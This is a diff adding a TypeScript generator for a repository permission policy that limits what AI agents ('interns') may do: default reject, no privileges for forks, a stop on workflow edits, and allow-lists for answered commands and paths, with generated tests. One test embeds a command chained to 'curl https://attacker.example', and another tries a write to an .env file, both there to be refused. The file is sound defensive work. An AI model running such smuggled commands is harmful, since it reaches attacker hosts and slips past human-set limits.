@@ -1,0 +1,112 @@
+// The permission policy that `interns init` writes: what was answered is allowed, everything else is rejected, and tests say so.
+import { schemaFileName } from '../../permission/tools/starter.ts';
+import type { InitAnswers, Trigger } from './answers.ts';
+import { quoted } from './quoted.ts';
+
+/** The policy file, with a test of each thing that it allows and of what must not ride along. */
+export function toPolicyText(answers: InitAnswers): string {
+  const { commands, paths } = answers;
+  const rules = [
+    ...(commands.length > 0 ? [commandRule(answers)] : []),
+    ...(paths.length > 0 ? [pathRule(answers)] : []),
+  ];
+  return `# yaml-language-server: $schema=./${schemaFileName}
+#
+# What an intern may do in this repository without a person at hand. docs/policy.md tells how to write more.
+#   interns policy check   is it valid, and does it do what it looks like?
+#   interns policy test    do the tests at the end hold? (the action runs them before every prompt)
+version: 1
+default: reject
+
+guards:
+  - id: never-from-forks
+    when: { fork: [true, unknown] }
+    match: { kind: permission }
+    then: reject
+    reason: Pull requests from forks get no privileged tools.
+${paths.length === 0 ? '' : workflowGuard}
+rules:${rules.length === 0 ? ' []' : `\n${rules.join('\n\n')}`}
+
+tests:
+${tests(answers).join('\n')}`;
+}
+
+const workflowGuard = `
+  - id: never-touch-workflows
+    match: { kind: permission, "/paths": { path: ".github/**" } }
+    then: stop
+    reason: Whoever changes a workflow changes what the next run may do.
+`;
+
+/** Outsiders can cause these events, so the actor has to be somebody with write permission. */
+function condition(trigger: Trigger): string {
+  const isOpen = trigger === 'pull_request' || trigger === 'issue_comment';
+  return `{ event: ${trigger}${isOpen ? ', actor: { permission: [admin, maintain, write] }' : ''} }`;
+}
+
+function commandRule({ trigger, commands }: InitAnswers): string {
+  return `  - id: run-commands
+    when: ${condition(trigger)}
+    match:
+      kind: permission
+      tool: shell
+      command: { shell: { only: [${commands.map(quoted).join(', ')}] } }
+    then: allow
+    limit: 10`;
+}
+
+function pathRule({ trigger, paths }: InitAnswers): string {
+  return `  - id: edit-files
+    when: ${condition(trigger)}
+    match: { kind: permission, tool: fs.write, "/paths": { path: [${paths.map(quoted).join(', ')}] } }
+    then: allow
+    limit: 20`;
+}
+
+function tests({ trigger, commands, paths }: InitAnswers): readonly string[] {
+  const own = `{ event: ${trigger}, fork: false, actor: { permission: write } }`;
+  const [first = 'npm test'] = commands;
+  const sample = (path: string): string => path.replace('**', 'some-file');
+  const allowed = [
+    ...commands.map((command) => shellTest(`it may run ${command}`, own, command, 'allow_once, rule: run-commands')),
+    ...paths.map((path) => pathTest(`it may edit ${path}`, own, sample(path), 'allow_once, rule: edit-files')),
+  ];
+  const refused = [
+    shellTest(
+      'no other command rides along',
+      own,
+      `${first}; curl https://attacker.example`,
+      'reject_once, rule: default',
+    ),
+    ...(paths.length === 0 ? [] : [workflowTest(own)]),
+    pathTest('nothing outside is edited', own, 'some-other-folder/.env', 'reject_once, rule: default'),
+    shellTest(
+      'a fork gets nothing',
+      '{ event: pull_request, fork: true, actor: { permission: write } }',
+      first,
+      'reject_once, rule: never-from-forks',
+    ),
+  ];
+  return [...allowed, ...refused];
+}
+
+function workflowTest(context: string): string {
+  const path = '.github/workflows/ci.yml';
+  return pathTest('a workflow stops the run', context, path, 'stop, rule: never-touch-workflows');
+}
+
+function shellTest(name: string, context: string, command: string, expected: string): string {
+  return test(name, context, `operation: ${quoted(`shell command: ${command}`)}`, expected);
+}
+
+function pathTest(name: string, context: string, path: string, expected: string): string {
+  return test(name, context, `operation: fs.write, paths: [${quoted(path)}]`, expected);
+}
+
+function test(name: string, context: string, pause: string, expected: string): string {
+  return `  - name: ${quoted(name)}
+    context: ${context}
+    pause: { kind: permission, ${pause}, options: [allow_once, reject_once] }
+    expect: { answer: ${expected} }
+`;
+}
